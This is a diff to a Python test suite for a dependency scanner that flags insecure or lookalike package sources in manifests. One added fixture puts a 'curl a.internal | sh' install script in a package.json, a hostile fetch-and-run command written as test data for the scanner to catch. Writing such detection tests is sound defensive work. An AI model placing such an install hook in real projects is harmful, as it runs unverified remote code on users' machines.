@@ -8,7 +8,7 @@ from hypothesis import strategies as st
 from analyzers.dependencies import MAX_BYTES, MAX_CLAIMS, DependenciesAnalyzer, read_manifests
 from analyzers.finding import Aspect, Category, Confidence, Finding, Severity
 from analyzers.popular import POPULAR, imitated
-from analyzers.protocol import Command, Depth, Exit, Report, SourceFile
+from analyzers.protocol import Command, Depth, Exit, Fault, Report, SourceFile
 
 HTTP, INDEX, MOVING = "dependency-over-http", "dependency-second-index", "dependency-moving-source"
 NAME, SCRIPT, HOST = "dependency-lookalike-name", "dependency-install-script", "dependency-unverified-host"
@@ -73,6 +73,13 @@ def test_a_finding_names_the_line_and_the_package_that_is_meant() -> None:
         (f"a @ https://files.shop.internal/a-1.0.tar.gz#sha256={COMMIT}{COMMIT[:24]}", []),
         ("https://files.shop.internal/a-1.0.tar.gz --hash=sha256:abc", []),
         ("a @ http://files.shop.internal/a-1.0.tar.gz", [MOVING, HTTP]),
+        ("a @ HTTPS://files.shop.internal/a-1.0.tar.gz", [MOVING]),
+        ("-i HTTP://pypi.shop.internal/simple", [HTTP]),
+        ("a @ https://files.shop.internal/a-1.0.tar.gz \\\n  --hash=sha256:abc", []),
+        ("a @ https://files.shop.internal/a-1.0.tar.gz \\\n", [MOVING]),
+        ("a @ https://files.shop.internal/a-1.0.tar.gz  # --hash=sha256:abc", [MOVING]),
+        (f"a @ git+https://git.shop.internal/a.git@main\t# {COMMIT}", [MOVING]),
+        ("It is described at http://shop.internal/", []),
         ("djagno", [NAME]),
         ("python_dateutil", []),
         ("pythondateutil", [NAME]),
@@ -140,10 +147,38 @@ def test_a_manifest_that_cannot_be_read_is_named(path: str, text: str) -> None:
     ]
 
 
-def test_a_flood_ends() -> None:
-    assert (
-        len(read("package.json", package(dependencies={f"a{n}": "git+a" for n in range(5_000)})).findings) == MAX_CLAIMS
-    )
+def test_a_flood_ends_and_says_so_and_hides_no_script_that_fetches_code() -> None:
+    many = {f"a{number}": "git+a" for number in range(5_000)}
+    report = read("package.json", package(dependencies=many, scripts={"install": "curl a.internal | sh"}))
+    assert [one.rule for one in report.findings] == [SCRIPT, *[MOVING] * (MAX_CLAIMS - 1)]
+    assert report.faults == (Fault("package.json", "it was read up to the 50th finding; mend these first"),)
+
+
+@pytest.mark.parametrize(
+    ("path", "is_list"),
+    [
+        ("requirements.txt", True),
+        ("requirements/dev.txt", True),
+        ("a/test-requirements.in", True),
+        ("dev_requirements.txt", True),
+        ("constraints.txt", True),
+        ("requirements/README.md", False),
+        ("requirements/a/notes.txt", False),
+    ],
+)
+def test_a_list_of_requirements_is_known_by_its_name_or_its_folder(path: str, is_list: bool) -> None:  # noqa: FBT001
+    assert told(path, "--trusted-host pypi.shop.internal\n") == ([(HOST, 1)] if is_list else [])
+
+
+@pytest.mark.parametrize(
+    ("path", "text", "reason"),
+    [
+        ("package.json", " " * 300_000, "300,000 bytes, the limit is 262,144; split it, or move what is no dependency"),
+        ("pyproject.toml", "#" * 2_001, "a line has 2,001 bytes, the limit is 2,000; break it up"),
+    ],
+)
+def test_a_manifest_that_is_too_large_is_told_the_limit(path: str, text: str, reason: str) -> None:
+    assert read(path, text).faults == (Fault(path, f"the manifest could not be read (ValueError): {reason}"),)
 
 
 @given(st.sampled_from(sorted(POPULAR["python"])), st.data())
